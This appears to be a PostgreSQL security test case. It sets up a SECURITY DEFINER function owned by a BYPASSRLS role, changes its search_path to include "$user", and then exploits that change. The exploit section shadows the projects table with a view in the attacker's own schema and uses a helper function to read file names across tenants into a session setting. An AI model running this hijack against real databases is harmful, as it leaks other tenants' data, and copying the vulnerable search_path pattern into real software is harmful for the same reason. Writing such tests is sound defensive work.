-- "$user" in a definer's search_path is a schema that the app role may create.
-- object: public.project_count()
-- base: projects
--- setup
RESET ROLE;
GRANT CREATE ON DATABASE {db} TO {app};
CREATE ROLE {svc} NOLOGIN BYPASSRLS;
GRANT SELECT ON projects, files TO {svc};
CREATE FUNCTION project_count() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, public, pg_temp AS $$
BEGIN RETURN (SELECT count(*) FROM projects WHERE org_id = current_setting('app.org_id')::uuid); END $$;
ALTER FUNCTION project_count() OWNER TO {svc};
--- leak
RESET ROLE;
ALTER FUNCTION project_count() SET search_path = "$user", public, pg_temp;
--- exploit
CREATE SCHEMA {svc};
CREATE VIEW {svc}.projects WITH (security_invoker) AS SELECT * FROM public.projects;
GRANT USAGE ON SCHEMA {svc} TO PUBLIC;
CREATE FUNCTION {svc}.peek() RETURNS uuid LANGUAGE plpgsql AS $$ BEGIN
    PERFORM set_config('spy.file', (SELECT string_agg(name, ',') FROM public.files), true); RETURN current_setting('app.org_id')::uuid; END $$;
CREATE OR REPLACE VIEW {svc}.projects AS SELECT p.id, {svc}.peek() AS org_id, p.name, p.archived, p.labels FROM (VALUES (gen_random_uuid(), 'x', false, ARRAY['x'])) p (id, name, archived, labels);
GRANT SELECT ON {svc}.projects TO PUBLIC;
SELECT project_count();
SELECT 1 WHERE current_setting('spy.file', true) LIKE '%b.pdf%';
